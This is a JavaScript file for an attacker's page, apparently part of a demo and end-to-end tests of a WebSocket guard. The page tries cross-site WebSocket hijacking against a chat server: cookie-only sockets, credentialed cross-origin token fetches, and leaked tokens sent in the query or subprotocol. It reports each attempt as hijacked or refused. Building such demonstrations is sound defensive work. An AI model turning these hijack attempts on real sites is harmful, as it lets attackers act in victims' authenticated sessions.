// The attacker's page. It runs on another origin, in a browser that holds the chat's session
// cookie, and tries every way it has to open the chat's WebSocket as the victim.
const config = await (await fetch('/demo.json')).json()
const victim = new URL(config.victim)
const socketBase = `ws://${victim.host}`

document.getElementById('origin').textContent = location.origin
document.getElementById('target').textContent = socketBase + '/chat'

/** Opens a socket: 'opened' (hijacked) or 'refused' (closed before it opened). */
function trySocket (url, protocols = []) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url, protocols)
    socket.addEventListener('open', () => {
      socket.addEventListener('message', (event) => {
        const message = JSON.parse(event.data)
        if (message.type === 'welcome') {
          resolve({ outcome: 'opened', detail: `the server took us for ${message.name}` })
          socket.close()
        }
      })
    })
    socket.addEventListener('close', (event) => {
      // the browser tells the page nothing about why: a refused upgrade is just code 1006
      resolve({ outcome: 'refused', detail: `socket closed (code ${event.code}) before it opened` })
    })
  })
}

async function leakedToken () {
  return (await (await fetch('/loot')).json()).token
}

const attempts = {
  /** the classic hijack: the browser adds the cookie, nothing else is needed */
  plainSocket: () => trySocket(socketBase + '/chat'),
  /** fetch a token as the chat page does; CORS would hide the answer, but the server must not issue */
  async readToken () {
    try {
      const res = await fetch(config.victim + '/websocket-token?path=/chat', { credentials: 'include' })
      const body = await res.json()
      return typeof body.token === 'string'
        ? { outcome: 'opened', detail: 'read a token' }
        : { outcome: 'refused', detail: `HTTP ${res.status}` }
    } catch (err) {
      return { outcome: 'refused', detail: `${err.name}: ${err.message}` }
    }
  },
  leakedInQuery: (token) => trySocket(`${socketBase}/chat?token=${encodeURIComponent(token)}`),
  leakedInProtocol: (token) => trySocket(socketBase + '/chat', ['websocket-guard', 'websocket-guard.' + token]),
  /** the control: the same plain socket to a route without the guard */
  unguarded: () => trySocket(socketBase + '/unguarded')
}

const rows = [
  ['plainSocket', 'Plain WebSocket to /chat, with the victim\'s cookie'],
  ['readToken', 'Cross-origin fetch of a token from /websocket-token'],
  ['leakedInQuery', 'Leaked token in the query: /chat?token=…'],
  ['leakedInProtocol', 'Leaked token as a subprotocol: websocket-guard.…'],
  ['unguarded', 'Control: plain WebSocket to /unguarded, a route without the guard']
]

function render (results) {
  const body = document.getElementById('attempts')
  body.replaceChildren()
  for (const [key, label] of rows) {
    const result = results[key] ?? { outcome: 'pending', detail: '' }
    const tr = document.createElement('tr')
    if (key === 'unguarded') tr.className = 'control'
    const what = document.createElement('td')
    what.textContent = label
    const cell = document.createElement('td')
    cell.className = 'result ' + result.outcome
    const words = { refused: 'refused', opened: key === 'unguarded' ? 'hijacked (no guard)' : 'HIJACKED', skipped: 'skipped', pending: '…' }
    cell.textContent = words[result.outcome]
    const detail = document.createElement('span')
    detail.className = 'detail'
    detail.textContent = result.detail
    cell.append(detail)
    tr.append(what, cell)
    body.append(tr)
  }
}

/** Runs every attempt, one after the other, and shows each result as it comes. */
async function run () {
  const results = {}
  render(results)
  const token = await leakedToken()
  for (const [key] of rows) {
    if ((key === 'leakedInQuery' || key === 'leakedInProtocol') && token === null) {
      results[key] = { outcome: 'skipped', detail: 'no leaked token yet: click "Leak a token" on the chat page' }
    } else {
      results[key] = await attempts[key](token)
    }
    render(results)
  }
  return results
}

document.getElementById('again').addEventListener('click', () => { window.attack.done = run() })

// for the end-to-end tests, which add ?manual to run attempts one by one
const manual = new URLSearchParams(location.search).has('manual')
window.attack = { ...attempts, leakedToken, run, done: manual ? null : run() }
